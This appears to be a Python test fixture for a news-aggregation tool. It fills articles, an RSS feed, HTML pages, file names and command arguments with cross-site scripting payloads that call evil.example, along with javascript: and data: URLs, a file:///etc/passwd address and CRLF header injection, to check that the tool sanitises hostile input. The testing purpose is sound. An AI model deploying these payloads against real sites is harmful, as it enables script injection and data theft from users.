"""A desk whose every word from outside tries to run in the reader's browser: titles, outlets, by-lines, addresses, speakers,
texts, feeds, notes, names. What runs sets window.hit, asks evil.example, or opens a dialog."""
import glob
import json
import os
import sqlite3

RUN = "window.hit=1;fetch('http://evil.example/')"
PAYLOADS = [
    f"<script>{RUN}</script>", f"<img src=x onerror=\"{RUN}\">", f"\"><script>{RUN}</script>", f"'><img src=x onerror={RUN}>",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>", f"<svg onload=\"{RUN}\">", f"<svg><script>{RUN}</script></svg>",
    f"\" onfocus=\"{RUN}\" autofocus=\"", f"' onmouseover='{RUN}", f"` onerror=`{RUN}", f"<body onload=\"{RUN}\">",
    f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>", f"<iframe src=\"javascript:{RUN}\"></iframe>",
    f"<a href=\"javascript:{RUN}\">x</a>", "<form action=\"http://evil.example/\"><button>x</button></form>",
    "<base href=\"http://evil.example/\">", "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "<link rel=stylesheet href=http://evil.example/x.css>", f"<style>@import'http://evil.example/';</style>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror={RUN}>\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<details open ontoggle=\"{RUN}\">x</details>",
    f"<object data=\"javascript:{RUN}\"></object>", "<embed src=\"http://evil.example/\">", f"<video><source onerror=\"{RUN}\"></video>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"';{RUN};//", f"\";{RUN};//", f"\n</script><script>{RUN}</script>",
    f"\u2028<script>{RUN}</script>", f"\x00<script>{RUN}</script>".replace("\x00", ""), f"<scr\u00adipt>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞", f"<xss-mark>", f"\u202e<script>{RUN}</script>",
]
ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", f"http://x.example/\" onmouseover=\"{RUN}",
    f"http://x.example/'><script>{RUN}</script>", f"https://x.example/<script>{RUN}</script>", "//evil.example/", "http:evil.example",
    "blob:http://evil.example/1", "file:///etc/passwd", "https://user:pass@evil.example/", "http://x.example/\r\nSet-Cookie: a=b",
]


def articles():
    """Pairs of reports of one event each, whose words are payloads wherever a report has words of others."""
    for i, payload in enumerate(PAYLOADS):
        address = ADDRESSES[i % len(ADDRESSES)]
        for j, outlet in enumerate((f"Harian {payload}", f"Warta {i} {payload}")):
            yield {"url": f"{address}#{i}{j}", "title": f"Jembatan {i} {payload} ditutup di Wanasari", "outlet": outlet,
                   "byline": [f"Ana {payload}"], "published": f"2026-05-{i % 27 + 1:02}T0{j + 1}:00:00Z", "lang": "id",
                   "text": f"WANASARI - Jembatan nomor {i} di Wanasari {payload} ditutup karena {i + 3 + j} retakan. \"Kami menutup "
                           f"jembatan {payload} nomor {i},\" kata Kepala Dinas Budi Tirta{i} {payload}.\n\nMenurut Sari Melati "
                           f"{payload}, {i + 30 + 7 * j} orang mengungsi dari kampung nomor {i}. Ia membantah kabar {payload} bahwa "
                           f"jembatan nomor {i} runtuh. \"{payload}\" kata juru bicara {payload}.\n"}


def feed():
    from xml.sax.saxutils import escape
    items = "".join(f"<item><title>{escape(p)}</title><link>{escape(ADDRESSES[i % len(ADDRESSES)])}</link><guid>{i}</guid>"
                    f"<description>{escape('Kabar ' * 30 + p)}</description></item>" for i, p in enumerate(PAYLOADS))
    return f"<rss version='2.0'><channel><title>{escape(PAYLOADS[0])}</title><link>http://a.example/</link>{items}</channel></rss>"


def make(stage, name="hostile.desk"):
    """The desk, and how many files of others are in it."""
    desk, folder = stage.path(name), stage.path("hostile")
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "articles.jsonl"), "w", encoding="utf-8") as out:
        for article in articles():
            out.write(json.dumps(article, ensure_ascii=False) + "\n")
    with open(os.path.join(folder, "feed.xml"), "w", encoding="utf-8") as out:
        out.write(feed())
    for i, payload in enumerate(PAYLOADS):   # as pages, and by the names of their files
        with open(os.path.join(folder, f"{i} {payload}".replace("/", "∕").replace("\n", " ")[:80] + ".html"), "w", encoding="utf-8") as out:
            out.write(f"<html><head><title>Pasar {i} {payload}</title></head><body><article><h1>Pasar {i} {payload}</h1>" +
                      f"<p>WANASARI - Pasar nomor {i} dibuka lagi pada Senin oleh Sari Melati, dan {i + 20} pedagang datang. {payload} "
                      f"\"Kami senang,\" kata Budi Tirta {payload}, ketua pasar nomor {i} di Wanasari.</p>" * 4 + "</article></body></html>")
    stage.run("add", "--desk", desk, folder, code=None)
    suite = os.environ.get("KABAR_FEEDPARSER")   # feedparser's tests, where they are there
    files = sorted(glob.glob(os.path.join(suite, "**", "sanitize", "*.xml"), recursive=True)) if suite else []
    for i in range(0, len(files), 100):
        stage.run("add", "--desk", desk, *files[i:i + 100], code=None)
    held = sqlite3.connect(desk)
    numbers = [row[0] for row in held.execute("SELECT id FROM articles ORDER BY id LIMIT 6")]
    stories = [row[0] for row in held.execute("SELECT id FROM stories ORDER BY id LIMIT 8")]
    held.close()
    for i, payload in enumerate(PAYLOADS[:6]):
        stage.run("mark", "--desk", desk, str(stories[0]), f"1:{i}-{i + 9}", "verified", "--by", f"Ana {payload}", "--note", payload,
                  code=None)
        stage.run("token", "--desk", desk, f"Tamu {payload}", code=None)
        stage.run("alert", "--desk", desk, "--search", f"jembatan \"{payload}\"", "--since", "2020-01-01", code=None)
        stage.run("alert", "--desk", desk, "--speaker", f"Budi {payload}", code=None)
        stage.run("outlets", "--desk", desk, f"Warta {i} {payload}", "--owner", payload, "--note", payload, code=None)
    for i, payload in enumerate(PAYLOADS[:3]):
        stage.run("merge", "--desk", desk, str(stories[2 * i + 1]), str(stories[2 * i + 2]), "--by", payload, "--note", payload, code=None)
    stage.run("alert", "--desk", desk, "--run", code=None)
    return desk, len(files), numbers, stories
